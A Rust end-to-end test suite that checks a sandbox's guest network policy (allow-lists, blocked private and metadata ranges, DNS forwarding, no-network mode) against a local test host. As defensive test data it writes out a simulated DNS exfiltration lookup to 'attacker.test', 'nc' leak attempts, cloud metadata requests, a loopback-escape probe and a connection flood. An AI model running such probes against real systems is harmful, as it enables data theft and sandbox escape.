//! End to end: the guest network (on by default; `--allow-host` for an allow-list) with the
//! sandbox owner inside a network namespace that holds only loopback and a veth to a test
//! host, so no packet can leave this machine (harness and layout: `common/nethost.rs`).
//!
//! One booted sandbox per policy mode: the allow-list test uses the busybox image (its
//! `wget`/`nslookup`), the open-egress test the `nettest` image (Debian's curl and python3).
//! Assertions read the test host's logs to show what did and did not arrive.
//!
//! Needs root (`ip netns add`); fails loudly without it, never skips.

mod common;
#[path = "common/nethost.rs"]
mod nethost;

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};
use std::time::Duration;

// Note: busybox 1.35 `wget -T` segfaults (on the host too); the guest uses `timeout`.

use common::{env, ok, stdout};
use nethost::{guest, NetHost, HOST_IP};
use serde_json::Value;

/// Names and IPs the sandbox may reach; the private ones are listed on purpose: blocked
/// ranges win over the allow-list.
const ALLOW: &str = "web.test,*.web.test,198.51.100.2,10.11.12.13,169.254.169.254,10.0.2.2";

/// The stderr of the running detached owners (for failure messages; their log file is
/// unlinked once the sandbox is ready).
fn owner_log() -> String {
    common::pids_matching("--detach=false")
        .into_iter()
        .map(|p| std::fs::read_to_string(format!("/proc/{p}/fd/2")).unwrap_or_default())
        .collect()
}

/// `matchlock run -d --image <image> <extra>` in the owner's namespace, with the
/// allow-list `allow` (open egress when `None`).
fn start(net: &NetHost, image: &str, allow: Option<&str>, extra: &[&str]) -> String {
    let e = env();
    let mut run = e.cmd();
    run.args(["run", "--image", image, "-d"])
        .args(extra)
        .env("MATCHLOCK_LOG", "warn,matchlock_net=debug");
    if let Some(a) = allow {
        run.args(["--allow-host", a]);
    }
    let out = net.wrap(run).output().expect("run -d");
    ok(&out).trim().to_string()
}

/// Records of `log` whose `path` is `path`.
fn requests_to(net: &NetHost, log: &str, path: &str) -> Vec<Value> {
    net.log(log)
        .into_iter()
        .filter(|r| r["path"] == path)
        .collect()
}

#[test]
fn harness_servers_answer_in_the_owner_namespace() {
    let net = NetHost::new();
    let ca = net.ca_pem();
    let ca = ca.to_str().expect("utf-8 path");
    // HTTPS by name (hosts file) and by IP (IP SAN), verified against the test CA only.
    for url in [
        "https://web.test/harness?k=v",
        "http://web.test/harness-plain",
        "https://198.51.100.2/harness-ip",
    ] {
        let o = net.run_in_sandbox_ns(&["curl", "-sS", "--max-time", "10", "--cacert", ca, url]);
        assert!(o.status.success(), "{url}: {}", common::stderr(&o));
        assert!(stdout(&o).contains("\"method\":\"GET\""), "{}", stdout(&o));
    }
    let r = &requests_to(&net, "https", "/harness")[0];
    assert_eq!(r["query"], "k=v");
    assert_eq!(r["sni"], "web.test");
    assert_eq!(r["host"], "web.test");
    assert_eq!(r["version"], "HTTP/2.0", "ALPN h2: {r}");
    // The untrusted port is refused by the same client.
    let o = net.run_in_sandbox_ns(&[
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--cacert",
        ca,
        "https://web.test:8443/",
    ]);
    assert!(!o.status.success(), "untrusted certificate accepted");
    // The forbidden addresses are routed to the test host: a flow policy let through would
    // arrive and be logged (the control for every "nothing arrived" assertion).
    for addr in nethost::FORBIDDEN {
        let url = format!("http://{addr}/forbidden-control");
        let o = net.run_in_sandbox_ns(&["curl", "-sS", "--max-time", "10", &url]);
        assert!(o.status.success(), "{url}: {}", common::stderr(&o));
    }
    assert_eq!(
        requests_to(&net, "http", "/forbidden-control").len(),
        nethost::FORBIDDEN.len()
    );
    // Names the hosts file lacks go to the test host's DNS server, which logs them.
    let o = net.run_in_sandbox_ns(&["getent", "hosts", "api.test"]);
    assert!(stdout(&o).contains(HOST_IP), "{}", common::stderr(&o));
    net.wait_log("dns", Duration::from_secs(5), |r| r["name"] == "api.test");
    let o = net.run_in_sandbox_ns(&["getent", "hosts", "metadata.test"]);
    assert!(stdout(&o).contains("169.254.169.254"), "{o:?}");
    // TCP echo and the UDP logger (the control for the guest's UDP test).
    let py = "import socket\n\
              s=socket.create_connection(('198.51.100.2',7),5); s.sendall(b'echo-me')\n\
              print(s.recv(64).decode())\n\
              u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.sendto(b'udp-control',('198.51.100.2',9))\n";
    let o = net.run_in_sandbox_ns(&["python3", "-c", py]);
    assert_eq!(stdout(&o).trim(), "echo-me", "{}", common::stderr(&o));
    net.wait_log("udp", Duration::from_secs(5), |r| {
        r["data"] == "udp-control"
    });
    net.wait_log("tcp", Duration::from_secs(5), |r| r["data"] == "echo-me");
    // WebSocket echo (handshake checked as RFC 6455 says).
    let ws = r#"import socket, base64, os, hashlib
s = socket.create_connection(('198.51.100.2', 80), 5)
k = base64.b64encode(os.urandom(16)).decode()
s.sendall(('GET /ws HTTP/1.1\r\nHost: web.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n'
           'Sec-WebSocket-Key: ' + k + '\r\nSec-WebSocket-Version: 13\r\n\r\n').encode())
h = b''
while b'\r\n\r\n' not in h:
    h += s.recv(1)
want = base64.b64encode(hashlib.sha1((k + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest())
m, mask = b'ws-hello', os.urandom(4)
s.sendall(bytes([0x81, 0x80 | len(m)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(m)))
r = s.recv(2)
print(h.split(b'\r\n')[0].decode(), want in h, s.recv(r[1]).decode())
"#;
    let o = net.run_in_sandbox_ns(&["python3", "-c", ws]);
    assert_eq!(
        stdout(&o).trim(),
        "HTTP/1.1 101 Switching Protocols True ws-hello",
        "{}",
        common::stderr(&o)
    );
    net.wait_log("http", Duration::from_secs(5), |r| {
        r["event"] == "ws-message" && r["data"] == "ws-hello"
    });
    // SSE: three events, streamed.
    let o = net.run_in_sandbox_ns(&["curl", "-sSN", "--max-time", "10", "http://web.test/sse"]);
    let text = stdout(&o);
    assert!(text.contains("data: event 3"), "{text}");
}

#[test]
fn allow_list_through_the_owner_stack() {
    let e = env();
    let net = NetHost::new();
    let id = start(&net, common::IMAGE, Some(ALLOW), &[]);
    let _guard = e.guard(&id);

    // The NIC came up from the boot config, and resolv.conf names the gateway.
    let (okk, text, _) = guest(e, &id, "ip addr show eth0; ip route; cat /etc/resolv.conf");
    assert!(okk, "{text}");
    assert!(text.contains("inet 10.0.2.15/24"), "{text}");
    assert!(text.contains("default via 10.0.2.2"), "{text}");
    assert!(text.contains("nameserver 10.0.2.2"), "{text}");

    // HTTP to an IP literal, through the stack.
    let (okk, text, _) = guest(e, &id, "timeout 20 wget -qO- http://198.51.100.2/by-ip");
    assert!(
        okk && text.contains("\"path\":\"/by-ip\""),
        "wget by IP: {text}"
    );
    // By name: the owner resolves web.test from its hosts file.
    let (okk, text, _) = guest(e, &id, "nslookup web.test");
    assert!(
        okk && text.contains(HOST_IP),
        "nslookup web.test: {text}\nowner: {}",
        owner_log()
    );
    let (okk, text, _) = guest(e, &id, "timeout 20 wget -qO- http://web.test/by-name");
    assert!(okk && text.contains("\"host\":\"web.test\""), "{text}");
    assert_eq!(requests_to(&net, "http", "/by-ip").len(), 1);
    assert_eq!(requests_to(&net, "http", "/by-name").len(), 1);

    // A name the allow-list does not match: NXDOMAIN from the owner, never sent on.
    let (okk, text, _) = guest(e, &id, "nslookup exfil-secret.attacker.test");
    assert!(!okk && text.contains("NXDOMAIN"), "{text}");
    // An allowed name the hosts file lacks does go to the (test host's) resolver: this is
    // the control showing the DNS log sees what leaves.
    let _ = guest(e, &id, "nslookup allowed-probe.web.test");
    net.wait_log("dns", Duration::from_secs(20), |r| {
        r["name"] == "allowed-probe.web.test"
    });
    assert!(
        !net.log_text("dns").contains("exfil-secret"),
        "a refused name left the owner: {}",
        net.log_text("dns")
    );

    // Blocked ranges win over the allow-list: refused at once with an RST.
    for (url, path) in [
        ("http://10.11.12.13/blocked-private", "/blocked-private"),
        (
            "http://169.254.169.254/blocked-metadata",
            "/blocked-metadata",
        ),
        ("http://10.0.2.2/blocked-gateway", "/blocked-gateway"),
    ] {
        // HTTP is intercepted (an allow-list turns interception on): the proxy answers 403
        // itself and never connects.
        let (okk, text, took) = guest(e, &id, &format!("timeout 20 wget -qO- {url}"));
        assert!(!okk, "{url} was reachable: {text}");
        assert!(text.contains("403"), "{url}: {text}");
        assert!(took < Duration::from_secs(10), "{url} took {took:?}");
        assert!(
            requests_to(&net, "http", path).is_empty(),
            "{url} reached the test host"
        );
    }
    // Other TCP to a blocked range: an immediate RST (the test host's echo never sees it).
    for addr in nethost::FORBIDDEN {
        let (okk, text, took) = guest(e, &id, &format!("echo leak | timeout 20 nc {addr} 7"));
        assert!(!okk && text.contains("refused"), "{addr}:7 {text}");
        assert!(
            took < Duration::from_secs(10),
            "{addr}:7 took {took:?}: not an RST"
        );
    }
    assert!(
        !net.log_text("tcp").contains("leak"),
        "{}",
        net.log_text("tcp")
    );
    // Not on the allow-list at all (an address nobody answers for: a connect attempt would
    // only time out after 10 s): refused at once.
    let (okk, text, took) = guest(e, &id, "timeout 20 nc 192.0.2.1 22 </dev/null");
    assert!(!okk && text.contains("refused"), "{text}");
    assert!(
        took < Duration::from_secs(5),
        "took {took:?}: not refused by policy"
    );
    e.kill_and_rm(&id);
}

#[test]
fn open_egress_with_real_clients() {
    let e = env();
    let image = nethost::nettest_image(e);
    let net = NetHost::new();
    let id = start(&net, image, None, &[]);
    let _guard = e.guard(&id);

    // The image: real clients and a system trust bundle.
    let (okk, text, _) = guest(
        e,
        &id,
        "test -s /etc/ssl/certs/ca-certificates.crt && curl --version | head -n1 && \
         python3 -c 'import ssl, socket, http.client, urllib.request; print(ssl.OPENSSL_VERSION)'",
    );
    assert!(okk && text.contains("OpenSSL"), "{text}");

    // curl by name (resolved by the owner from its hosts file) with the request echoed.
    let (okk, text, _) = guest(
        e,
        &id,
        "curl -sS --max-time 20 -H 'X-Probe: 1' 'http://web.test/open?q=1'",
    );
    assert!(okk, "{text}\nowner: {}", owner_log());
    let echoed: Value = serde_json::from_str(text.trim()).expect("echo JSON");
    assert_eq!(echoed["query"], "q=1", "{text}");
    assert_eq!(echoed["headers"]["x-probe"], "1", "{text}");
    assert_eq!(requests_to(&net, "http", "/open").len(), 1);

    // HTTPS passes through untouched under open egress: the guest verifies the test host's
    // certificate itself (given the test CA), over h2.
    let ca = std::fs::read(net.ca_pem()).expect("ca.pem");
    ok(&e.run_stdin(&["exec", "-i", &id, "sh", "-c", "cat > /tmp/ca.pem"], &ca));
    let (okk, text, _) = guest(
        e,
        &id,
        "curl -sS --max-time 20 --cacert /tmp/ca.pem https://web.test/tls-open",
    );
    assert!(okk && text.contains("\"version\":\"HTTP/2.0\""), "{text}");
    let hs = net.wait_log("https", Duration::from_secs(5), |r| {
        r["event"] == "handshake"
    });
    assert_eq!(hs["sni"], "web.test", "{hs}");

    // getent through the gateway's DNS: the owner resolves with its system resolver, which
    // asks the test host's DNS server for names its hosts file lacks.
    let (okk, text, _) = guest(e, &id, "getent hosts web.test; getent hosts api.test");
    assert!(okk && text.matches(HOST_IP).count() == 2, "{text}");
    net.wait_log("dns", Duration::from_secs(10), |r| r["name"] == "api.test");
    let (okk, text, _) = guest(e, &id, "curl -sS --max-time 20 http://api.test/via-dns");
    assert!(okk && text.contains("\"host\":\"api.test\""), "{text}");

    // A blocked range fails fast (RST), and nothing arrives.
    let (okk, text, took) = guest(
        e,
        &id,
        "curl -sS --max-time 20 http://10.11.12.13/open-private",
    );
    // curl 7.88 reports a refused connect as "Couldn't connect to server" (exit 7).
    assert!(!okk && text.contains("curl: (7)"), "{text}");
    assert!(took < Duration::from_secs(10), "{took:?}");
    // The errno says how: ECONNREFUSED (an RST), not a timeout or an ICMP error.
    let py = "import socket\n\
              try:\n socket.create_connection(('10.11.12.13',80),10)\n\
              except OSError as e:\n print('errno', e.errno)\n";
    let (_, text, _) = guest(e, &id, &format!("python3 -c \"{py}\""));
    assert_eq!(text.trim(), "errno 111", "not ECONNREFUSED");
    // The gateway address is not the host: a service on the owner's own loopback is never
    // reached through it (slirp's 10.0.2.2 is the host's 127.0.0.1). The listener reports
    // the first connection it accepts; the test's own probe comes after the guest's try.
    let listen = "import socket\n\
                  s=socket.socket(); s.bind(('127.0.0.1',7077)); s.listen(8)\n\
                  print('listening',flush=True); s.settimeout(60)\n\
                  c,_=s.accept(); c.settimeout(10)\n\
                  print('first:',c.recv(64).decode(errors='replace'),flush=True)\n";
    let mut py = Command::new("python3");
    py.args(["-c", listen]);
    let mut listener = net
        .wrap(py)
        .stdout(Stdio::piped())
        .spawn()
        .expect("listener");
    let mut lines = BufReader::new(listener.stdout.take().expect("stdout")).lines();
    assert_eq!(
        lines.next().and_then(Result::ok).as_deref(),
        Some("listening")
    );
    let py = "import socket\n\
              try:\n socket.create_connection(('10.0.2.2',7077),10).sendall(b'leak')\n\
              except OSError as e:\n print('errno', e.errno)\n";
    let (_, text, _) = guest(e, &id, &format!("python3 -c \"{py}\""));
    assert_eq!(text.trim(), "errno 111", "gateway: not refused");
    let probe = "import socket; socket.create_connection(('127.0.0.1',7077),5).sendall(b'probe')";
    ok(&net.run_in_sandbox_ns(&["python3", "-c", probe]));
    let first = lines.next().and_then(Result::ok);
    let _ = listener.wait();
    assert_eq!(
        first.as_deref(),
        Some("first: probe"),
        "the guest reached the owner's loopback"
    );
    // By a name whose DNS answer is a blocked address (checked on the connected address).
    let (okk, text, _) = guest(
        e,
        &id,
        "curl -sS --max-time 20 http://metadata.test/open-metadata",
    );
    assert!(!okk, "{text}");
    for path in ["/open-private", "/open-metadata"] {
        assert!(requests_to(&net, "http", path).is_empty(), "{path} arrived");
    }

    // python3 sockets: TCP echo works; UDP is forwarded in open egress (e2e_net6 has the
    // blocked ranges and the allow-list case).
    let py = "import socket\n\
              s=socket.create_connection(('198.51.100.2',7),10); s.sendall(b'guest-echo')\n\
              print(s.recv(64).decode())\n\
              u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.sendto(b'guest-udp',('198.51.100.2',9))\n";
    let (okk, text, _) = guest(e, &id, &format!("python3 -c \"{py}\""));
    assert!(okk && text.trim() == "guest-echo", "{text}");
    net.wait_log("tcp", Duration::from_secs(10), |r| {
        r["data"] == "guest-echo"
    });
    net.wait_log("udp", Duration::from_secs(10), |r| r["data"] == "guest-udp");

    // A connection flood: 400 sockets at once. The owner holds at most 256 flows and
    // refuses the rest with an RST; once they are closed, the network works as before.
    let py = "import socket, errno\n\
              ok = refused = 0\n\
              socks = []\n\
              for i in range(400):\n \
                s = socket.socket(); s.settimeout(20)\n \
                try:\n  s.connect(('198.51.100.2', 7)); ok += 1; socks.append(s)\n \
                except OSError as e:\n  refused += 1; s.close()\n\
              print('ok', ok, 'refused', refused)\n\
              [s.close() for s in socks]\n";
    let (okk, text, _) = guest(e, &id, &format!("python3 -c \"{py}\""));
    assert!(okk, "{text}");
    let nums: Vec<u32> = text
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    assert!(
        nums.len() == 2 && nums[0] <= 256 && nums[0] >= 200 && nums[0] + nums[1] == 400,
        "{text}"
    );
    let (okk, text, _) = guest(
        e,
        &id,
        "sleep 1; curl -sS --max-time 20 http://web.test/after-flood",
    );
    assert!(okk && text.contains("after-flood"), "{text}");

    // ICMP echo: the gateway answers; nothing else does (no fake reachability; echo beyond
    // the gateway needs ping sockets in the owner's namespace, not permitted here: see
    // e2e_icmp.rs).
    let (okk, text, _) = guest(e, &id, "busybox ping -c 1 -W 5 10.0.2.2");
    assert!(okk, "{text}");
    let (okk, text, _) = guest(e, &id, "busybox ping -c 1 -W 2 198.51.100.2");
    assert!(!okk, "{text}");
    e.kill_and_rm(&id);
}

/// `--dns-servers`: the guest's resolv.conf lists them, and the owner forwards every guest
/// query to them, whatever address the guest sends it to (reference 13.2 #118/#120).
#[test]
fn custom_dns_servers_resolve_through_the_owner() {
    let e = env();
    let image = nethost::nettest_image(e);
    let net = NetHost::new();
    let id = start(&net, image, None, &["--dns-servers", HOST_IP]);
    let _guard = e.guard(&id);
    let (okk, text, _) = guest(e, &id, "cat /etc/resolv.conf");
    assert!(
        okk && text.contains(&format!("nameserver {HOST_IP}")),
        "{text}"
    );
    assert!(!text.contains("nameserver 10.0.2.2"), "{text}");
    // Forwarded, not resolved by the owner's system resolver: `web.test` is in the owner's
    // hosts file, which the system resolver would answer from without a query, yet the
    // test host's DNS server logs it.
    let (okk, text, _) = guest(e, &id, "getent hosts web.test; getent hosts api.test");
    assert!(okk && text.matches(HOST_IP).count() == 2, "{text}");
    net.wait_log("dns", Duration::from_secs(10), |r| r["name"] == "web.test");
    net.wait_log("dns", Duration::from_secs(10), |r| r["name"] == "api.test");
    let (okk, text, _) = guest(
        e,
        &id,
        "busybox nslookup evil.test 10.0.2.2 && curl -sS --max-time 20 http://api.test/custom-dns",
    );
    assert!(okk && text.contains("\"host\":\"api.test\""), "{text}");
    net.wait_log("dns", Duration::from_secs(10), |r| r["name"] == "evil.test");
    assert_eq!(requests_to(&net, "http", "/custom-dns").len(), 1);
    e.kill_and_rm(&id);
}

#[test]
fn no_network_means_no_nic() {
    let e = env();
    // Loopback only, and a connection fails at once for want of a route. The address is
    // the gateway's, which the default policy refuses, so a NIC that should not be there
    // would answer "refused" (from the sandbox's own stack, never off the machine).
    // (No `-T`: Debian's busybox 1.35 wget segfaults on an unreachable host with it.)
    let out = e.sandbox(&[
        "--no-network",
        "--",
        "sh",
        "-c",
        "ls /sys/class/net; wget -q -O- http://10.0.2.2/ 2>&1; echo rc=$?",
    ]);
    let text = ok(&out);
    assert!(!text.contains("eth0"), "{text}");
    assert!(text.lines().any(|l| l == "lo"), "{text}");
    assert!(text.contains("unreachable"), "{text}");
    assert!(!text.contains("rc=0"), "{text}");
}
